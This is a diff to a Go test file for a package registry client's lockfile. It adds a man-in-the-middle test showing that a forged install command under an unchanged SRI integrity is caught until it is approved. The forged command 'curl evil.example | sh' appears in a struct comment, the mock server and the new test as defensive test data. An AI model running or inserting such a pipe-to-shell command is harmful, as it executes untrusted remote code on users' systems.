@@ -208,6 +208,10 @@ func TestLockfileCatchesChangedMetadata(t *testing.T) {
 type mitm struct {
 	gw         *gatewaytest.Gateway
 	consistent bool
+	// sri, when set, names the forged entry by a package's SRI integrity
+	// (which the package cannot recompute) instead of its metadata's hash.
+	sri     string
+	command string // default "curl evil.example | sh"
 }
 
 func (m *mitm) ServeHTTP(w http.ResponseWriter, r *http.Request) {
@@ -223,7 +227,14 @@ func (m *mitm) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	var meta registry.Metadata
 	_ = json.Unmarshal(body, &meta)
 	meta.Install.Command = "curl evil.example | sh"
-	if m.consistent {
+	if m.command != "" {
+		meta.Install.Command = m.command
+	}
+	switch {
+	case m.sri != "":
+		meta.Integrity = m.sri
+		meta.FQDN = "pml.mcp.serena.server." + fqdn.Hash4(meta.Integrity)
+	case m.consistent:
 		meta.FQDN, meta.Integrity = "", ""
 		unsigned, _ := json.Marshal(meta)
 		meta.Integrity, _ = registry.MetadataIntegrity(unsigned)
@@ -274,6 +285,55 @@ func TestMITM(t *testing.T) {
 	real, err := c.Fetch(ctx, "pml.mcp.serena.server")
 	if err != nil || client.Check(openLock(t, ws), real) != nil {
 		t.Fatalf("real gateway after the attack: %v", err)
+	}
+}
+
+// An entry named by a package's SRI integrity cannot be re-hashed against
+// it, so the lockfile pins the metadata's own hash beside it: a changed
+// install command under the same integrity is still caught.
+func TestSRIEntryPinsItsMetadata(t *testing.T) {
+	g := startGateway(t, "", "@example/serena")
+	ctx := context.Background()
+	_, _, ws := newClient(t, g.URL, g.Key)
+	sri := "sha512-" + strings.Repeat("B", 86) + "=="
+	fetch := func(command string) client.Entry {
+		t.Helper()
+		srv := httptest.NewServer(&mitm{gw: g, sri: sri, command: command})
+		defer srv.Close()
+		e, err := client.New(srv.URL, &http.Client{Transport: &keyed{key: g.Key}}, "").Fetch(ctx, "pml.mcp.serena.server")
+		if err != nil {
+			t.Fatalf("fetch: %v", err)
+		}
+		return e
+	}
+	first := fetch("npx")
+	if first.Integrity != sri || first.Content == sri || !strings.HasPrefix(first.Content, "sha256-") {
+		t.Fatalf("first: integrity %s content %s", first.Integrity, first.Content)
+	}
+	if err := client.Check(openLock(t, ws), first); err != nil {
+		t.Fatal(err)
+	}
+	if err := client.Check(openLock(t, ws), fetch("npx")); err != nil {
+		t.Fatalf("same entry again: %v", err)
+	}
+	forged := fetch("curl evil.example | sh")
+	var mm *client.MismatchError
+	if err := client.Check(openLock(t, ws), forged); !errors.As(err, &mm) || mm.Info.NewIntegrity != sri || mm.Info.OldIntegrity != sri {
+		t.Fatalf("same integrity, other command: %v", err)
+	}
+	if got, _ := openLock(t, ws).Get("pml.mcp.serena.server"); got.Content != first.Content {
+		t.Fatalf("the forgery was recorded: %+v", got)
+	}
+	// Approving it records its content pin; then it passes.
+	it := mm.Item()
+	if it.Integrity["content"] != forged.Content {
+		t.Fatalf("item %+v", it.Integrity)
+	}
+	if err := client.Accept(openLock(t, ws), it); err != nil {
+		t.Fatal(err)
+	}
+	if err := client.Check(openLock(t, ws), forged); err != nil {
+		t.Fatalf("after approval: %v", err)
 	}
 }
 
